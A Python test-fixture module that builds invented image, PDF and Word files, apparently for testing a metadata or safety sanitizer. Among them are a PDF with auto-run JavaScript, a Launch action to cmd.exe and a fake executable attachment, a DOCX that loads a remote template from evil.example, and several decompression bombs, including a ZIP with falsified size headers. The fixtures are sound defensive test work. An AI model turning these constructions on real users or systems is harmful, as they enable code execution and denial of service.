"""Files as people send them, and as nobody should: made here, all invented."""

import io
import struct
import zipfile
import zlib

import pikepdf
import pillow_heif
from PIL import Image

NAME = "Nguyễn Thị Bí Mật"
"""Stands in what says who made a file."""

PLAIN_NAME = "Nguyen Thi Bi Mat"


def _saved(picture: Image.Image, how: str, **more: object) -> bytes:
    made = io.BytesIO()
    picture.save(made, how, **more)  # type: ignore[arg-type] # whatever the format knows
    return made.getvalue()


def jpeg(width: int = 60, height: int = 90, orientation: int = 1, shade: int = 200) -> bytes:
    """A photograph, with a camera's remarks."""
    exif = Image.Exif()
    exif[0x0112], exif[0x013B], exif[0x8769] = orientation, PLAIN_NAME, {}
    exif.get_ifd(0x8825)[1] = "N"
    return _saved(Image.new("RGB", (width, height), (shade, shade, shade)), "JPEG", exif=exif, comment=PLAIN_NAME)


def png(width: int = 60, height: int = 90, shade: int = 100) -> bytes:
    """A picture with a text in it."""
    from PIL.PngImagePlugin import PngInfo

    told = PngInfo()
    told.add_text("Author", PLAIN_NAME)
    return _saved(Image.new("L", (width, height), shade), "PNG", pnginfo=told)


def tiff(pages: int = 3) -> bytes:
    """What an office scanner makes."""
    frames = [Image.new("1", (80, 120), nr % 2) for nr in range(pages)]
    return _saved(frames[0], "TIFF", save_all=True, append_images=frames[1:], compression="group4")


def heic() -> bytes:
    """What a phone makes."""
    made = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (64, 96), (10, 200, 90))).save(made)
    return made.getvalue()


def pdf(pages: int = 2, **save: object) -> bytes:
    """A document that says who made it, runs a script, starts a program, brings a file and has a note and a form."""
    made = pikepdf.new()
    for _nr in range(pages):
        made.add_blank_page(page_size=(595, 842))
    made.docinfo["/Author"] = PLAIN_NAME
    with made.open_metadata() as meta:
        meta["dc:creator"] = [PLAIN_NAME]
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('xin chao')"))
    made.Root.OpenAction = script
    made.Root.AA = pikepdf.Dictionary(WC=script)
    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), script]))
    made.attachments["virus.exe"] = b"MZ not really"
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=launch)
    stamp = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Stamp, Rect=[10, 10, 90, 90], F=4, T=pikepdf.String(PLAIN_NAME),
        AP=pikepdf.Dictionary(N=made.make_stream(b"0 0 80 80 re f", Type=pikepdf.Name.XObject,
                                                 Subtype=pikepdf.Name.Form, BBox=[0, 0, 80, 80])),
    )  # fmt: skip
    made.pages[0].Annots = made.make_indirect(pikepdf.Array([link, stamp]))
    made.pages[0].AA = pikepdf.Dictionary(O=script)
    out = io.BytesIO()
    made.save(out, **save)  # type: ignore[arg-type] # whatever pikepdf knows
    return out.getvalue()


def pdf_with_a_picture() -> bytes:
    """A scan in a PDF, whose picture says who made it."""
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(595, 842))
    image = pikepdf.Stream(made, jpeg(), {
        "/Type": pikepdf.Name.XObject, "/Subtype": pikepdf.Name.Image, "/Width": 60, "/Height": 90,
        "/ColorSpace": pikepdf.Name.DeviceRGB, "/BitsPerComponent": 8, "/Filter": pikepdf.Name.DCTDecode,
    })  # fmt: skip
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im=image))
    page.Contents = made.make_stream(b"q 595 0 0 842 0 0 cm /Im Do Q")
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def locked_pdf(user: str = "") -> bytes:
    """One with a password to change it, or to open it."""
    return pdf(1, encryption=pikepdf.Encryption(owner="chu", user=user))


def bomb_pdf(size: int = 300_000_000) -> bytes:
    """One page of instructions that becomes a third of a gigabyte."""
    made = pikepdf.new()
    page = made.add_blank_page()
    packer = zlib.compressobj(9)
    piece = b" " * 1_000_000
    packed = b"".join(packer.compress(piece) for _mb in range(size // 1_000_000)) + packer.flush()
    page.Contents = pikepdf.Stream(made, packed, {"/Filter": pikepdf.Name.FlateDecode})
    out = io.BytesIO()
    made.save(out, compress_streams=False)
    return out.getvalue()


def huge_png(side: int = 10_000) -> bytes:
    """A hundred megapixels of nothing, in a hundred thousand bytes."""
    row = zlib.compressobj(9)
    rows = b"".join(row.compress(b"\0" * (side // 8 + 1)) for _row in range(side)) + row.flush()

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def docx(parts: dict[str, bytes] | None = None, types: str = _TYPES) -> bytes:
    """A text of Word with its author, and whatever else."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as pack:
        pack.writestr("[Content_Types].xml", types)
        pack.writestr("word/document.xml", f'<w:document><w:ins w:author="{NAME}"/>Lý lịch</w:document>')
        pack.writestr("docProps/core.xml", f"<x><creator>{NAME}</creator></x>")
        pack.writestr("word/_rels/settings.xml.rels", _RELS)
        for name, content in (parts or {}).items():
            pack.writestr(name, content)
    return made.getvalue()


def docx_bomb() -> bytes:
    """A part that becomes two hundred megabytes."""
    return docx({"word/media/a.xml": b"\0" * 200_000_000})


def understated_zip() -> bytes:
    """A bomb whose list of parts says it is small."""
    content = bytearray(docx({"word/zzz.xml": b"\0" * 150_000_000}))
    size = struct.pack("<I", 150_000_000)
    while (at := content.find(size)) >= 0:
        content[at : at + 4] = struct.pack("<I", 100)
    return bytes(content)
